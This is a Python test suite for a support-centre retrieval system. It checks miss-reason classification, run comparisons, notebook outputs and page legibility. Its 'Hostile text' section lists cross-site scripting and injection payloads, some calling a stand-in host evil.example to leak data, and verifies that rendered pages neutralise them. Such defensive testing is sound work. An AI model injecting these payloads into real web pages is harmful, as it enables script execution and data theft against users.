"""What an engineer looks at: reasons that hold, text that runs nothing, pages that are legible."""

import json
import re
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Page

from support_rag.chunk import chunk
from support_rag.evaluation.cache import Cache, silent
from support_rag.evaluation.comparison import (
    Pair,
    compare_configurations,
    compare_stored,
    count_fates,
)
from support_rag.evaluation.evidence import (
    Gold,
    Mark,
    Miss,
    chunk_page,
    element,
    gold_in,
    gold_of,
    look_for,
    marked,
    place_of,
)
from support_rag.evaluation.labels import Labels, Question, load_labels, sample, take_split
from support_rag.evaluation.regression import compare_runs
from support_rag.evaluation.runs import load_run, run_release, save_run
from support_rag.evaluation.views import ChunkView, QuestionView, question_page
from support_rag.release import ChunkParameters, Parameters, RetrieveParameters, resource
from support_rag.retrieve import fuse
from support_rag.types import Chunk, Document, InputInvalid, Rankings, Scored, Span, Turn, chunk_id
from tests.browser import chromium, is_expected

ROOT = Path(__file__).parents[2]
OPTIONS: dict[str, Any] = {"cache": Cache(None), "progress": silent}


@pytest.fixture(scope="module")
def labels() -> Labels:
    "A few questions of the sample help centre, with some documents that answer none."
    return sample(take_split(load_labels(resource("data/help_centre")), "tune"), 36, distractors=4)


@pytest.fixture(scope="module")
def options() -> Iterator[dict[str, Any]]:
    with ThreadPoolExecutor(2) as executor:
        yield {**OPTIONS, "executor": executor}


@pytest.fixture(scope="module")
def base() -> Parameters:
    return Parameters().with_(embed={"model": "hashing-256"}, retrieve={"k": 2, "candidates": 10})


@pytest.fixture(scope="module")
def pair(labels: Labels, base: Parameters, options: dict[str, Any]) -> Pair:
    "The base against chunks that cut evidence."
    cutting = base.with_(chunk={"mode": "fixed", "size_tokens": 32})
    return compare_configurations(labels, base, cutting, base=base, **options)


# Why evidence was missed


def made_chunk(text: str, start: int, end: int, ordinal: int) -> Chunk:
    span = Span(start, end)
    return Chunk(chunk_id("d", span, text), "d", span, span.of(text), ordinal=ordinal)


@st.composite
def situations(draw: st.DrawFn) -> tuple[Gold, list[Chunk], Rankings, RetrieveParameters, str]:
    "A text, chunks that cover it, a gold span, two rankings of some chunks, and how to fuse them."
    text = draw(st.text("ab \n", min_size=4, max_size=40).filter(str.strip))
    inner = draw(st.sets(st.integers(1, len(text) - 1), max_size=5)) if len(text) > 1 else set()
    edges = [0, *sorted(inner), len(text)]
    overlap = draw(st.integers(0, 3))
    chunks = [
        made_chunk(text, max(0, a - overlap), b, n) for n, (a, b) in enumerate(pairwise(edges))
    ]
    start = draw(st.integers(0, len(text) - 1))
    gold = Gold("q", "d", Span(start, draw(st.integers(start + 1, len(text)))))
    dense, lexical = (
        tuple(
            Scored(c, 1 / (n + 1))
            for n, c in enumerate(draw(st.permutations(chunks))[: draw(st.integers(0, 6))])
        )
        for _ in range(2)
    )
    k = draw(st.integers(1, 4))
    parameters = RetrieveParameters(
        k=k,
        candidates=draw(st.integers(k, 5)),
        fusion=draw(st.sampled_from(["convex", "rrf", "dense", "lexical"])),
        dense_weight=draw(st.sampled_from([0.0, 0.5, 1.0])),
    )
    return gold, chunks, Rankings(dense, lexical), parameters, text


def expected_miss(
    gold: Gold, chunks: list[Chunk], rankings: Rankings, parameters: RetrieveParameters
) -> Miss | None:
    "Decide character by character, without the code under test."
    assert gold.span is not None
    wanted = set(range(gold.span.start, gold.span.end))
    holds = {c.id: wanted & set(range(c.span.start, c.span.end)) for c in chunks}
    reachable = set().union(*holds.values())
    n = parameters.candidates
    read = Rankings(rankings.dense[:n], rankings.lexical[:n])
    hits = fuse(read, parameters)
    if set().union(*(holds[hit.chunk.id] for hit in hits)) >= reachable:
        return None
    holders = {name for name, held in holds.items() if held >= reachable}
    if not holders:
        return Miss.CUT
    by_meaning = {s.chunk.id for s in read.dense} & holders
    by_words = {s.chunk.id for s in read.lexical} & holders
    weighs = parameters.fusion in ("convex", "rrf")
    reads_words = parameters.fusion == "lexical" or (weighs and parameters.dense_weight < 1)
    if parameters.fusion == "lexical" or (weighs and parameters.dense_weight == 0):
        return Miss.OUTRANKED if by_words else Miss.NOT_RETRIEVED
    if by_meaning:
        return Miss.OUTRANKED
    return Miss.NOT_CLOSE if by_words or not reads_words else Miss.NOT_RETRIEVED


@settings(max_examples=400, deadline=None)
@given(situations())
def test_each_miss_has_the_reason_that_its_characters_give(
    situation: tuple[Gold, list[Chunk], Rankings, RetrieveParameters, str],
) -> None:
    gold, chunks, rankings, parameters, _ = situation
    [fate] = look_for([gold], chunks, rankings, parameters)
    assert fate.miss == expected_miss(gold, chunks, rankings, parameters)
    assert (fate.miss is None) == (fate.share == 1)
    assert fate.sentence.startswith(str(fate.miss or "found"))


def test_every_reason_occurs_and_is_counted(pair: Pair, labels: Labels) -> None:
    counted = count_fates(pair)
    n_gold = sum(len(gold_of(question.id, labels)) for question in labels.questions)
    assert (counted.sum() == n_gold).all()
    assert set(counted.index) == {"found", *map(str, Miss)}
    present, cutting = (counted[side.name] for side in pair.sides)
    assert cutting["cut in two"] > present["cut in two"] == 0
    assert present["outranked"] > 0 and present["found"] > 0


def test_a_graded_document_without_spans_is_found_by_any_chunk(pair: Pair, labels: Labels) -> None:
    graded = replace(labels, spans={})
    for side in pair.sides:
        for question in labels.questions:
            documents = {hit.chunk.document_id for hit in side.hits(question.id)}
            for fate in side.fates(question.id, graded):
                assert (fate.miss is None) == (fate.gold.document_id in documents)
                assert fate.miss != Miss.CUT


# The pair


def test_what_is_looked_at_is_what_was_measured(pair: Pair, labels: Labels) -> None:
    for side in pair.sides:
        for question in labels.questions:
            row, hits = side.rows[question.id], side.hits(question.id)
            assert row["tokens"] == sum(hit.chunk.n_tokens for hit in hits)
            fates = side.fates(question.id, labels)
            if "recall" in row and len(fates) == 1 and fates[0].miss == Miss.OUTRANKED:
                assert row["recall"] < 1 and fates[0].rank > side.n_hits[question.id]


def test_stored_runs_show_the_questions_that_compare_lists(
    labels: Labels, base: Parameters, options: dict[str, Any], tmp_path: Path
) -> None:
    for name, k in (("wide", 8), ("narrow", 1)):
        tuned = base.with_(retrieve={"k": k})
        save_run(run_release(labels, parameters=tuned, **options), tmp_path, name=name)
    wide, narrow = (load_run(name, folders=[tmp_path]) for name in ("wide", "narrow"))
    pair = compare_stored(labels, wide, narrow, **options)
    comparison = compare_runs(wide, narrow)
    for change in ("regressed", "fixed", "abstained wrongly"):
        assert {q.id for q in pair.questions(change)} == set(comparison.of(change))
    lost = pair.questions("regressed")
    assert lost, "one hit holds less than eight"
    view = QuestionView(pair)
    assert view.change.value == "regressed" and view.question.value == lost[0].id
    fates = pair.sides[1].fates(lost[0].id, labels)
    assert all(str(fate.miss or "found") in view.below.value for fate in fates)


def test_runs_of_other_labels_and_held_out_questions_are_refused(
    labels: Labels, base: Parameters, options: dict[str, Any], tmp_path: Path
) -> None:
    one = replace(run_release(labels, parameters=base, **options), name="one")
    two = replace(one, name="two", findings={"sentence": "another"})
    with pytest.raises(InputInvalid, match="measured on the questions"):
        compare_stored(sample(labels, 20), one, two, **options)
    held_out = {**one.data, "split": "evidence"}
    with pytest.raises(InputInvalid, match="kept for the evidence"):
        compare_stored(labels, replace(one, data=held_out), replace(two, data=held_out), **options)
    with pytest.raises(InputInvalid, match="are the same"):
        compare_stored(labels, one, one, **options)


# The views without a browser


def test_controls_draw_what_they_say(labels: Labels) -> None:
    view = ChunkView(labels)
    documents = {document.id: document for document in labels.corpus}
    for name in view.document.options.values():
        view.document.value = name
        for mode, size, overlap in (("structure", 200, 0), ("fixed", 40, 20), ("sentence", 16, 8)):
            view.mode.value, view.size.value, view.overlap.value = mode, size, overlap
            cut = ChunkParameters(mode=mode, size_tokens=size, overlap_tokens=overlap)
            chunks, golds = chunk(documents[name], cut), gold_in(name, labels)
            assert view.text.value.count("<section") == len(chunks)
            n_cut = sum(place_of(gold, chunks).is_cut for gold in golds)
            assert view.figures.value.count(">cut: chunks") == n_cut
            assert ("torn-" in view.text.value.partition("</style>")[2]) == (n_cut > 0)


LIVE = "application/vnd.jupyter.widget-view+json"


@pytest.mark.parametrize("name", ["nbs/evaluation/22_views.ipynb", "evals/06_look.ipynb"])
def test_committed_views_are_pages_and_nothing_of_a_kernel(name: str) -> None:
    notebook = json.loads((ROOT / name).read_text())
    outputs = [o.get("data", {}) for c in notebook["cells"] for o in c.get("outputs", [])]
    pages = [data for data in outputs if ".look {" in "".join(data.get("text/html", ""))]
    assert len(pages) == (2 if name.startswith("evals") else 3)
    assert not any(LIVE in data for data in outputs), f"{name}: remove {LIVE} from the outputs"
    assert "widgets" not in notebook["metadata"], f"{name}: remove `widgets` from its metadata"


# Hostile text

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror='window.hit=1'>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    '"><script>window.hit=1</script>',
    "' onmouseover='window.hit=1",
    '" autofocus onfocus="window.hit=1" tabindex="0',
    "</style><script>window.hit=1</script>",
    "</mark></div></section><script>window.hit=1</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';.look{background:url(//evil.example/x)}</style>",
    "<a href='javascript:window.hit=1'>x</a>",
    "![x](https://evil.example/?q=secret) [x]: https://evil.example",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><form action=//evil.example><input name=q autofocus></form>",
    "<video><source onerror=window.hit=1></video><audio src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<math><mi xlink:href='javascript:window.hit=1'>x</mi></math>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\u202e<script>window.hit=1</script>\u202c",
    "{{7*7}} ${7*7} <%= 7*7 %> $$\\href{javascript:window.hit=1}{x}$$",
    "<template><script>window.hit=1</script></template><noscript><img src=x></noscript>",
)


def hostile_pages(pair: Pair) -> list[str]:
    "Every page, with payloads wherever a person or a model can write."
    text = "\n\n".join(f"# {payload}\n\n{payload} tail." for payload in PAYLOADS)
    pages = []
    for payload in PAYLOADS:
        document = Document(payload, payload, text, payload)
        span = Span(text.index(payload), text.index(payload) + len(payload) + 4)
        turns = (Turn("user", payload), Turn("assistant", payload))
        question = Question(payload, payload, payload, True, turns, payload, payload)
        gold = {payload: {payload: (span,)}}
        labels = Labels((document,), (question,), {payload: {payload: 1}}, gold)
        chunks = chunk(document, ChunkParameters(size_tokens=40, overlap_tokens=10))
        shown = chunk_page(document, chunks, gold_in(payload, labels), {payload: question})
        pages.append(shown._repr_html_())
        ranked = tuple(Scored(c, 1 - n / 100) for n, c in enumerate(chunks))
        hits = fuse(Rankings(ranked, ranked), pair.sides[0].parameters.retrieve)
        sides = tuple(
            replace(
                side,
                name=payload,
                rows={payload: {"tokens": 1, "outcome": payload, "right": 0.0}},
                chunks={payload: chunks},
                queries={payload: payload + "?"},
                rankings={payload: Rankings(ranked, ranked)},
                ranked={payload: hits},
                n_hits={payload: len(hits)},
            )
            for side in pair.sides
        )
        changed = pair.changes.iloc[:1].set_axis([payload]).assign(change=payload)
        hostile = replace(pair, labels=labels, sides=sides, changes=changed)
        pages.append(question_page(hostile, payload)._repr_html_())
    return pages


def test_payloads_become_text(pair: Pair) -> None:
    allowed = re.compile(r"</?(b|details|div|li|mark|p|section|small|style|summary|ul)\b[^<>]*>")
    for page in hostile_pages(pair):
        left = allowed.sub("", page.partition("</style>")[2])
        assert not re.search(r"<[a-z!/?]", left, re.I)
        for attributes in re.findall(r"<\w+((?: [a-z]+=\"[^\"]*\")*)>", page):
            names = set(re.findall(r" ([a-z]+)=", re.sub(r'"[^"]*"', "", attributes)))
            assert names <= {"class", "title", "dir", "open"}


PLACES = st.tuples(st.integers(0, 60), st.integers(0, 60))


@given(st.text(max_size=60), st.lists(PLACES, max_size=5))
def test_marks_neither_lose_nor_repeat_a_character(
    text: str, places: list[tuple[int, int]]
) -> None:
    marks = [Mark(Span(min(p), max(p)), "gold", note=text, tears=True) for p in places]
    drawn = marked(text, Span(0, len(text)), marks)
    assert re.sub(r"</?mark[^>]*>", "", drawn) == element("p", text)[3:-4]


if is_expected():

    @pytest.fixture(scope="module")
    def browser() -> Iterator[Browser]:
        with chromium() as browser:
            yield browser

    def test_payloads_run_nothing_and_ask_nobody(pair: Pair, browser: Browser) -> None:
        asked = list[str]()

        def watched() -> Page:
            page = browser.new_page()
            page.on("request", lambda request: asked.append(request.url))
            page.on("dialog", lambda dialog: asked.append(dialog.message))
            return page

        page = watched()
        show(page, "<script>window.hit=1</script><img src='http://127.0.0.1:9/x'>")
        assert page.evaluate("window.hit") == 1, "a script that is there runs"
        assert asked == ["http://127.0.0.1:9/x"], "and what it asks for is noticed"
        asked.clear()
        page = watched()
        for shown in hostile_pages(pair):
            show(page, shown)
            page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
            assert page.evaluate("window.hit") is None
        assert page.evaluate("document.querySelectorAll('.look mark').length") > 0
        assert not asked

    def test_pages_are_legible_in_both_themes_at_any_width(pair: Pair, browser: Browser) -> None:
        name = max(pair.labels.spans, key=lambda q: len(pair.labels.spans[q]))
        view = ChunkView(pair.labels)
        view.mode.value, view.size.value, view.overlap.value = "fixed", 32, 12
        for theme in ("light", "dark"):
            page = browser.new_page()
            for width in (1200, 320):
                page.set_viewport_size({"width": width, "height": 900})
                for shown in (view.page, question_page(pair, name)):
                    show(page, shown._repr_html_(), theme=theme)
                    wide = page.evaluate("document.documentElement.scrollWidth")
                    assert wide <= width, f"{theme}, {width} pixels"
                    least = page.evaluate(LEAST_CONTRAST)
                    assert least["ratio"] >= 4.5, (theme, least)
            page.close()


def show(page: Page, body: str, *, theme: str = "light") -> None:
    "Load HTML with scripts allowed, as a trusted notebook does, on a JupyterLab theme's ground."
    file = f"share/jupyter/lab/themes/@jupyterlab/theme-{theme}-extension/index.css"
    css = re.search(r":root\s*{[^}]*}", (Path(sys.prefix) / file).read_text())
    assert css is not None
    ground = f"<style>{css[0]} body {{ background: var(--jp-layout-color1) }}</style>"
    page.set_content(f"<!doctype html>{ground}<body>{body}</body>")


LEAST_CONTRAST = """() => {
  const parts = text => {
    const n = text.match(/[\\d.]+(e-?\\d+)?/g).map(Number)
    const scale = text.startsWith('color(') ? 255 : 1
    return [n[0] * scale, n[1] * scale, n[2] * scale, n.length > 3 ? n[3] : 1]
  }
  const mix = (top, below, i) => top[i] * top[3] + below[i] * (1 - top[3])
  const over = (top, below) => [0, 1, 2].map(i => mix(top, below, i)).concat(1)
  const ground = e => e === null ? [255, 255, 255, 1]
    : over(parts(getComputedStyle(e).backgroundColor), ground(e.parentElement))
  const light = c => c.slice(0, 3).map(v => v / 255)
    .map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0)
  let least = { ratio: 99, text: '' }
  for (const e of document.querySelectorAll('.look *')) {
    if (![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim())) continue
    const below = ground(e), ink = over(parts(getComputedStyle(e).color), below)
    const [a, b] = [light(ink), light(below)].sort((x, y) => y - x)
    const ratio = (a + 0.05) / (b + 0.05)
    if (ratio < least.ratio) least = { ratio, text: e.textContent.slice(0, 40), cls: e.className }
  }
  return least
}"""
